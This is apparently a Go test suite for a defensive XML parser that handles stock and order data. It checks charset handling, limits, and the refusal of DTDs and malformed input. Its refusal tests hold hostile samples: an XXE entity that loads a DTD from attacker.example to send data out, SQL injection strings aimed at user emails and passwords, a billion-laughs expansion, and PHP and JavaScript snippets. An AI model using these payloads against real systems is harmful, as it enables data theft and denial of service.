package parser

import (
	"slices"
	"strings"
	"testing"
)

func TestXML(t *testing.T) {
	for name, c := range map[string]struct {
		body string
		want []string
	}{
		"a stock list": {
			`<?xml version="1.0" encoding="utf-8"?><bestand><artikel pzn="04114918">42</artikel></bestand>`,
			[]string{"pzn=04114918", "42"},
		},
		"a byte order mark": {
			"\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"utf-8\"?><bestand>Größe</bestand>", []string{"Größe"},
		},
		"windows-1252": {
			"<?xml version=\"1.0\" encoding=\"windows-1252\"?><artikel><bez>Salbe f\xfcr Kinder \x96 50 g</bez><preis>9,95 \x80</preis></artikel>",
			[]string{"Salbe für Kinder – 50 g", "9,95 €"},
		},
		"ISO-8859-1 that is ASCII": {
			`<?xml version='1.0' encoding='iso-8859-1' ?><methodCall><methodName>stock.set</methodName><params><param><value><int>42</int></value></param></params></methodCall>`,
			[]string{"stock.set", "42"},
		},
		"openTRANS": {
			"<?xml version=\"1.0\" encoding=\"ISO-8859-15\" standalone=\"yes\"?>\r\n<ORDER xmlns=\"http://www.opentrans.org/XMLSchema/1.0\" version=\"1.0\" type=\"standard\">\r\n\t<ORDER_ID>10023</ORDER_ID>\r\n\t<NAME>M\xfcller</NAME>\r\n\t<PRICE currency='EUR'>12 \xa4</PRICE>\r\n</ORDER>\r\n",
			[]string{"xmlns=http://www.opentrans.org/XMLSchema/1.0", "version=1.0", "type=standard", "10023", "Müller", "currency=EUR", "12 €"},
		},
		"BMEcat with its type": {
			"<?xml version=\"1.0\"?>\n<!DOCTYPE BMECAT SYSTEM \"bmecat_new_catalog_1_2.dtd\">\n<BMECAT version=\"1.2\"><T_NEW_CATALOG/></BMECAT>",
			[]string{`BMECAT SYSTEM "bmecat_new_catalog_1_2.dtd"`, "version=1.2"},
		},
		"a public type": {
			`<!DOCTYPE cXML PUBLIC "-//cXML//DTD 1.2//EN" 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd' ><cXML/>`,
			[]string{`cXML PUBLIC "-//cXML//DTD 1.2//EN" 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd'`},
		},
		"a type alone": {"<!DOCTYPE html>\n<html/>", []string{"html"}},
		"FHIR": {
			`<Parameters xmlns="http://hl7.org/fhir"><parameter><name value="taskId"/><valueString value="160.000.033"/></parameter></Parameters>`,
			[]string{"xmlns=http://hl7.org/fhir", "value=taskId", "value=160.000.033"},
		},
		"SOAP": {
			`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><getRate xmlns=""><zip>20354</zip></getRate></s:Body></s:Envelope>`,
			[]string{"xmlns:s=http://schemas.xmlsoap.org/soap/envelope/", "xmlns=", "20354"},
		},
		"references": {
			`<a b="&lt;script&gt;&#x61;&#10;&quot;">x&apos; &amp;&#38;&#x1F48A; &amp;lt;</a>`, []string{"b=<script>a\n\"", "x' &&💊 &lt;"},
		},
		"blanks in attributes": {"<a b = 'x\r\ny\tz'\nc=\"'\"/>", []string{"b=x y z", "c='"}},
		"line ends":            {"<a>x\r\ny\rz&#13;</a>", []string{"x\ny\nz"}},
		"CDATA":                {"<a><![CDATA[<script>&lt;]]]]><![CDATA[>]]></a>", []string{"<script>&lt;]]", ">", "<script>&lt;]]>"}},
		"an attribute twice":   {`<a b="1" b="2"/>`, []string{"b=1", "b=2"}},
		"umlauts in names":     {`<Größe Maß="1">M</Größe>`, []string{"Maß=1", "M"}},
		"a comment":            {"<!-- UNION --><a><!-- ALL > --></a><!---->", []string{"UNION", "ALL >"}},
		"instructions": {
			`<?xml-stylesheet href="javascript:alert(1)"?><a><?php system('id') ?></a><?x?>`,
			[]string{`<?xml-stylesheet href="javascript:alert(1)"?>`, "<?php system('id') ?>", "<?x?>"},
		},
		"a text in pieces":      {"<a>un<!-- x -->ion sel<![CDATA[ect]]><?y?></a>", []string{"un", "x", "ion sel", "ect", "<?y?>", "union select"}},
		"elements between":      {"<p><a>un<b/>ion<b>x</b>y</a></p>", []string{"un", "ion", "x", "y", "uniony"}},
		"blank pieces":          {"<a> <!--x--> y <b/> </a>", []string{"x", "y"}},
		"nothing":               {"", nil},
		"blanks":                {"\r\n ", nil},
		"a line before the tag": {"\r\n<a/>\n", nil},
	} {
		table := Table{limits: roomy}
		got := table.lines(table.readXML([]byte(c.body), ""))
		if !slices.Equal(got, c.want) {
			t.Errorf("%s:\n got %q\nwant %q", name, got, c.want)
		}
	}
}

func TestRefusedXML(t *testing.T) {
	for want, bodies := range map[Reason][]string{
		DTD: {
			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d; %all;]><prestashop><a>&send;</a></prestashop>`,
			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY q "x' UNION ALL SELECT email,password FROM oxuser-- ">]><artikel><pzn>&q;</pzn></artikel>`,
			`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "loeweloewe"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>`,
			`<!DOCTYPE r SYSTEM "x.dtd" [<!ATTLIST r a CDATA "' OR 1=1">]><r/>`, `<!DOCTYPE r[]><r/>`, "<!DOCTYPE\nr\nPUBLIC '' '' \n[<!ELEMENT r ANY>]><r/>",
			`<!ENTITY x "y"><r/>`, `<r><!ENTITY x "y">&x;</r>`,
		},
		XML: {
			"x", "<", "<a", "<a>", "</a>", "<a></b>", "<a></a></a>", "<a/><b/>", "<a/>x", "x<a/>", "<a/>&#32;", "<![CDATA[x]]>", "<a/><![CDATA[]]>",
			"<a>&nbsp;</a>", "<a>&</a>", "<a>&lt</a>", "<a>&x;</a>", "<a b='&x;'/>", "<a>&#0;</a>", "<a>&#xFFFE;</a>", "<a>&#xD800;</a>", "<a>&#x110000;</a>",
			"<a>&#99999999999;</a>", "<a>&#X41;</a>", "<a>&#-1;</a>", "<a>&#;</a>", "<a>&#x;</a>", "<a>&LT;</a>", "<a>&lt ;</a>", "<a>& lt;</a>", "<a>&#1;</a>",
			"<a b/>", "<a b=c/>", "<a b='c'd='e'/>", "<a b='<'/>", "<a b='c", "<a 'c'/>", "<a b=''c/>", "< a/>", "<a / >", "<a/ >", "</ a>", "<1/>", "<a:/>", "<:a/>", "<a:b:c/>", "<a:1/>",
			"<a>]]></a>", "<a><!-- x -- y --></a>", "<a><!-- x ---></a>", "<a><!-->", "<!-", "<a><![CDATA[x]]</a>", "<a><![cdata[x]]></a>", "<?>", "<a><?x", "<a><? x?></a>", "<a><?x/y?></a>",
			"\n<?xml version='1.0'?><a/>", "<?xml version='1.1'?><a/>", "<?xml version=\"1.0'?><a/>", "<?xml?><a/>", "<?xml encoding='utf-8'?><a/>", "<?XML version='1.0'?><a/>",
			"<a><?xml version='1.0'?></a>", "<?xml version='1.0' standalone='yes' encoding='utf-7'?><a/>", "<?xml version='1.0' encoding=''?><a/>", "<?xml version='1.0'encoding='utf-8'?><a/>",
			"<!doctype html><html/>", "<!DOCTYPE html", "<!DOCTYPE><a/>", "<!DOCTYPEa><a/>", "<!DOCTYPE a b><a/>", "<!DOCTYPE a SYSTEM><a/>", "<!DOCTYPE a PUBLIC 'x'><a/>", "<a/><!DOCTYPE a>", "<a><!DOCTYPE a></a>",
			"<a>\xc0\xae</a>", "<a>M\xfcller</a>", "<a b='\xff'/>", "<a>\xed\xa0\x80</a>", "<a>\x01</a>", "<a>\x1b</a>", "<a>\x0c</a>", "<a>\ufffe</a>", "<a\u00a0b='c'/>", "<a\u0085b='c'/>",
			"<a><br></a>", "<a></A>", "<!-- x -->", "<!DOCTYPE a>", "\xef\xbb\xbf\xef\xbb\xbf<a/>", "+ADw-a/+AD4-", "\x4c\x6f\xa7\x94",
		},
		Charset: {
			"\xff\xfe<\x00a\x00/\x00>\x00", "\xfe\xff\x00<\x00a\x00/\x00>", "<\x00a\x00/\x00>\x00", "\x00<\x00a\x00/\x00>", "\x00\x00\x00<\x00\x00\x00a", "<a>\x00</a>",
			"<?xml version='1.0' encoding='utf-7'?><a>+ADw-</a>", "<?xml version='1.0' encoding='UTF-16'?><a/>", "<?xml version='1.0' encoding='ebcdic-cp-us'?><a/>",
			"<?xml version='1.0' encoding='us-ascii'?><a>\xfc</a>", "\xef\xbb\xbf<?xml version='1.0' encoding='iso-8859-1'?><a>\xc3\xbc</a>",
		},
	} {
		for _, body := range bodies {
			table := Table{limits: roomy}
			err := table.readXML([]byte(body), "")
			if got := reasonOf(err); got != want {
				t.Errorf("%q is %q, want a refusal for %s", body, table.lines(err), want)
			}
		}
	}
}

// Mark, declaration and Content-Type may each name a charset.
func TestXMLCharsets(t *testing.T) {
	const mark = "\xef\xbb\xbf"
	says := func(charset, text string) string {
		return "<?xml version='1.0' encoding='" + charset + "'?><a>" + text + "</a>"
	}
	for name, c := range map[string]struct {
		body, contentType, want string
	}{
		"both say the same":          {says("ISO-8859-1", "\xfc"), "iso-8859-1", "ü"},
		"both mean the same":         {says("cp1252", "\x80"), "windows-1252", "€"},
		"only the type":              {"<a>\xfc</a>", "ISO-8859-1", "ü"},
		"only the declaration":       {says("iso-8859-15", "\xa4"), "", "€"},
		"a declaration without":      {"<?xml version='1.0'?><a>\xfc</a>", "latin1", "ü"},
		"they differ, ASCII":         {says("iso-8859-1", "x"), "utf-8", "x"},
		"they differ":                {says("iso-8859-1", "\xc3\xbc"), "utf-8", "refused: charset"},
		"they differ, not UTF-8":     {says("utf-8", "\xfc"), "iso-8859-1", "refused: charset"},
		"they differ, not here":      {says("iso-8859-1", "\xfc"), "windows-1252", "ü"},
		"they differ here":           {says("iso-8859-1", "\x80"), "windows-1252", "refused: charset"},
		"the type is unknown":        {says("utf-8", "x"), "utf-7", "refused: charset"},
		"the declaration is unknown": {says("utf-7", "x"), "utf-8", "refused: charset"},
		"mark and the same":          {mark + says("utf-8", "ü"), "utf-8", "ü"},
		"mark and another type":      {mark + "<a>ü</a>", "iso-8859-1", "refused: charset"},
	} {
		table := Table{limits: roomy}
		got := strings.Join(table.lines(table.readXML([]byte(c.body), c.contentType)), "|")
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func TestXMLLimits(t *testing.T) {
	limits := Limits{Arguments: 10, Depth: 4, Text: 100}
	nested := func(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }
	for name, c := range map[string]struct {
		body string
		want Reason
	}{
		"4 deep":              {nested(4), ""},
		"5 deep":              {nested(5), Depth},
		"an empty one 5 deep": {"<a><a><a><a><a/></a></a></a></a>", Depth},
		"deep and broken":     {strings.Repeat("<a>", 1<<20), Depth},
		"10 attributes":       {"<a " + strings.Repeat("b='' ", 10) + "/>", ""},
		"11 attributes":       {"<a " + strings.Repeat("b='' ", 11) + "/>", Arguments},
		"10 texts":            {"<r>" + strings.Repeat("<a>x</a>", 10) + "</r>", ""},
		"11 texts":            {"<r>" + strings.Repeat("<a>x</a>", 11) + "</r>", Arguments},
		"11 comments":         {strings.Repeat("<!--x-->", 11) + "<a/>", Arguments},
		"100 bytes":           {"<a>" + strings.Repeat("x", 100) + "</a>", ""},
		"101 bytes":           {"<a>" + strings.Repeat("x", 101) + "</a>", Text},
		"51 bytes, in pieces": {"<a>x<!---->" + strings.Repeat("x", 50) + "</a>", Text},
		"a long attribute":    {"<a b='" + strings.Repeat("x", 100) + "'/>", Text},
		"a long name of one":  {"<a " + strings.Repeat("b", 101) + "=''/>", Text},
	} {
		table := Table{limits: limits}
		err := table.readXML([]byte(c.body), "")
		if got := reasonOf(err); got != c.want {
			t.Errorf("%s: refused for %q, want %q", name, got, c.want)
		}
	}
}

func TestLooksLikeXML(t *testing.T) {
	for body, want := range map[string]bool{
		"<a/>": true, "\r\n <?xml": true, "\xef\xbb\xbf\n<": true, "": false, "a=<b>": false, "{<": false, "\u00a0<": false,
	} {
		if got := looksLikeXML([]byte(body)); got != want {
			t.Errorf("%q: %v, want %v", body, got, want)
		}
	}
}
